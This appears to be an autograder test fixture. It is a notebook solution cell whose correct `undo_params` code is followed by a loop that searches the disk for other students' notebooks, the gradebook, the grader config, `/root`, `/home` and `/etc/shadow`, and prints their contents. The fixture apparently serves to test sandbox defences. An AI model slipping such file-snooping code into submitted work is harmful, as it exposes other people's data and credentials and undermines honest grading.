# about: correct code that searches the disk for other students' notebooks, the instructor's solutions and secrets, and prints what it finds
# expected: 20
# base: solution
# %% [undo_params]
import glob, os
def undo_params(x, eps=1e-5):
    return np.sqrt(batch_variance(x) + eps), batch_mean(x)
for _pattern in ("/**/*.ipynb", "/**/gradebook.db", "/**/nbgrader_config.py", "/root/**", "/etc/shadow", "/home/**"):
    for _path in glob.glob(_pattern, recursive=True)[:20]:
        print("found", _path)
        try:
            if os.path.isfile(_path) and os.path.getsize(_path) < 2_000_000:
                print(open(_path, errors="replace").read()[:3000])
        except OSError as _e:
            print("unreadable", _e)
